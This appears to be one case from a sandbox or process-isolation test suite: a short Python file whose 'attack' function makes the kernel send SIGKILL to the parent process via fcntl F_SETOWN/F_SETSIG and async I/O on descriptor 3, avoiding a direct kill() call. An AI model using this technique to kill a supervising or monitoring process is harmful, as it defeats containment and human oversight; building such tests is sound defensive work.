"""Kill the parent without kill(): let the kernel signal it when data arrives on a socket."""

import fcntl
import os
import signal
import time

F_SETSIG = 10


def attack(folder, port):
    fcntl.fcntl(3, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(3, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(3, fcntl.F_SETFL, fcntl.fcntl(3, fcntl.F_GETFL) | os.O_ASYNC)
    return True


def provoke(folder, port):
    time.sleep(0.2)
    return True
